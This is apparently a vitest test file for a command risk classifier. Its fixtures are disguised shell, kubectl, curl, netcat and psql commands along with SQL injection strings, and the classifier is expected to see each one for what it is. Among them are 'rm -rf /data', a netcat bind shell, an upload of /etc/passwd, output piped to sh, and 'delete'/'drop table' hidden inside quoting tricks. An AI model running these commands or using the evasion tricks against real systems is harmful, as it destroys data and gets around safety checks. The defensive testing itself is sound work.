import { expect, it } from "vitest";
import { riskOf } from "./risk-of";
import { sqlRisk } from "./sql-risk";

/** Ways to have something done that does not look like it. The ceiling of a run comes from what they are taken for. */
const disguises: readonly (readonly [string, string])[] = [
  ["(kubectl() { :; }); kubectl delete pod x", "destructive"],
  ["(kubectl() { :; }); kubectl exec p -- rm -rf /data", "destructive"],
  ["ps() { :; }; unset -f ps; ps aux", "read"],
  ["kubectl exec p -- sh -c '(mysql() { :; }); mysql -e x'", "change"],
  ["kubectl exec p -- sh /tmp/x.sh -c 'echo hi'", "change"],
  ["kubectl exec p -- sh -c -e 'rm /data'", "destructive"],
  ["kubectl exec p -- bash -eo pipefail -c 'rm /data'", "destructive"],
  ["kubectl exec p -- bash --rcfile /tmp/x -ic 'echo hi'", "change"],
  ["ssh web-1 kubectl delete pod x --help --help=false", "destructive"],
  ["kubectl exec p -- curl -X DELETE http://a -: -X GET http://b", "destructive"],
  ["kubectl exec p -- curl gopher://cache:6379/_FLUSHALL", "change"],
  ["kubectl exec p -- curl -Q 'DELE x' ftp://a/", "change"],
  ["kubectl exec p -- curl -G -T /etc/passwd http://a/", "change"],
  ["kubectl exec p -- curl -sw '%output{/data/x}hi' http://a/", "change"],
  ["kubectl exec p -- wget -qO- --post-dat=x http://a/", "change"],
  ["kubectl exec p -- wget -qO- -o /data/x http://a/", "change"],
  ["kubectl exec p -- wget -qO- --use-askpass=/tmp/x http://a/", "change"],
  ["kubectl exec p -- wget -qO- -T 3 --header='A: b' http://a/", "read"],
  ["kubectl exec p -- nc -z -l -p 99 -e /bin/sh", "change"],
  ["kubectl exec p -- nc -zv -w 3 db 5432", "read"],
  ["kubectl exec -i p -- redis-cli --pipe get x", "change"],
  ["kubectl exec p -- redis-cli -h cache -n 2 ZRANGE k 0 -1", "read"],
  ["kubectl exec p -- psql -o '|sh' -c 'select 1'", "change"],
  ["kubectl exec p -- psql -c 'select 1' -f /tmp/x.sql", "change"],
  ["kubectl exec p -- psql -c '\\echo `id`'", "change"],
  ["kubectl exec p -- psql -U app -Atc 'select 1'", "read"],
  ["kubectl exec p -- psql -U app -Atc 'drop table x'", "destructive"],
  [`psql -c "select '" -c "drop table x; --'"`, "destructive"],
  ["psql -c 'set default_transaction_read_only = off'", "change"],
  ["psql -c 'set session characteristics as transaction read write'", "change"],
  ["psql -c 'begin isolation level serializable, read write'", "change"],
  ["psql -c 'set search_path = evil, pg_catalog'", "change"],
  ["psql -c 'set search_path to app, public' -c 'set statement_timeout = 5000' -c 'begin read only'", "read"],
];

it.each(disguises)("is not taken in by %j", (script, risk) => {
  expect(riskOf(script).risk).toBe(risk);
});

it.each([
  ["select E'\\''; delete from t; --'", "destructive"],
  [`select 1 as "'"; delete from t; select '`, "destructive"],
  ["select 1 as x$$; delete from t; select 2 as y$$", "destructive"],
  ["select 1 /* /* */ ' */ ; delete from t; --'", "destructive"],
  ["select E'a'\n'b\\' ; '; delete from t; --'", "change"],
  ["select E'a' --\r'b\\' ; '; delete from t; --'", "change"],
  // Marks of a comment that could be cut in any number of ways.
  [`select E'a' ${"--a=".repeat(100)}`, "read"],
  ['select "pg_reload_conf"()', "change"],
  ["select evil . count(1)", "change"],
  ["select evil./* */count (1)", "change"],
  ["select écount(1)", "change"],
  ['select pg_catalog.count(*) as "rows (all)" from "Orders" where "Id" in (1, 2) -- delete', "read"],
  ["select $a$ delete from t $a$, 'drop'", "read"],
  ["\\copy (select count(*) from t) to stdout", "read"],
])("reads the SQL %j as PostgreSQL does", (sql, risk) => {
  expect(sqlRisk(sql).risk).toBe(risk);
});

it("takes time in proportion to what it is given", () => {
  for (const text of ["a.", "' ", "e' ", "( ", ". ", "$a$ ", "/* ", '" ']) {
    const startedAt = performance.now();
    sqlRisk(`select ${text.repeat(50_000)}`);
    expect(performance.now() - startedAt).toBeLessThan(2_000);
  }
});

it.each([
  ["wrappers", `${"sudo ".repeat(4_000)}ls`],
  ["scripts", "eval 'eval ".repeat(200)],
  ["substitutions", `${"$(".repeat(2_000)}ls${")".repeat(2_000)}`],
  ["sums", `echo $((${"1+".repeat(4_000)}1))`],
])("does not go down without end into %s", (_, script) => {
  const startedAt = performance.now();
  expect(riskOf(script).risk).toBe("unknown");
  expect(performance.now() - startedAt).toBeLessThan(5_000);
});
